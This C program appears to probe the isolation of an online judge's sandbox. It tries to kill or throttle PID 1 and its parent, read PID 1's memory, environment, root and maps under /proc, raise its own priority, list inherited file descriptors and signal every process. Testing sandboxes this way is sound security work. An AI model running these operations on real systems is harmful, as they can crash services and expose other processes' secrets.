/* Process 1 is the judge's. */
#include "attack.h"
#include <sys/resource.h>
int main(void)
{
    struct rlimit none = {0, 0}, more = {1 << 20, 1 << 20};
    int one = 1;
    long mask = 1;
    printf("parent %d, me %d %d\n", getppid(), getuid(), geteuid());
    if (getppid() == 1) TRY("kill parent", kill(getppid(), SIGKILL));
    TRY("kill 1", kill(1, SIGKILL));
    TRY("interrupt 1", kill(1, SIGINT));
    TRY("limit 1", prlimit(1, RLIMIT_NOFILE, &none, NULL));
    TRY("affinity of 1", syscall(SYS_sched_setaffinity, 1, 8, &mask));
    TRY("scheduler of 1", syscall(SYS_sched_setscheduler, 1, 5, &none));
    TRY("priority of 1", syscall(SYS_setpriority, PRIO_PROCESS, 1, 19));
    TRY("real time", syscall(SYS_sched_setscheduler, 0, 1, &one));
    TRY("sooner", syscall(SYS_setpriority, PRIO_PROCESS, 0, -5));
    TRY("raise limit", setrlimit(RLIMIT_NOFILE, &more));
    TRY("read memory of 1", open("/proc/1/mem", O_RDWR));
    TRY("read environment of 1", open("/proc/1/environ", O_RDONLY));
    TRY("read descriptors of 1", open("/proc/1/fd/0", O_RDONLY));
    TRY("read root of 1", open("/proc/1/root/etc", O_RDONLY));
    TRY("read maps of 1", open("/proc/1/maps", O_RDONLY));
    TRY("oom of 1", open("/proc/1/oom_score_adj", O_WRONLY));
    for (int i = 3; i < 1024; i++)
        if (fcntl(i, F_GETFD) >= 0) printf("ALLOWED descriptor %d\n", i);
    kill(-1, SIGUSR1);
    return 0;
}
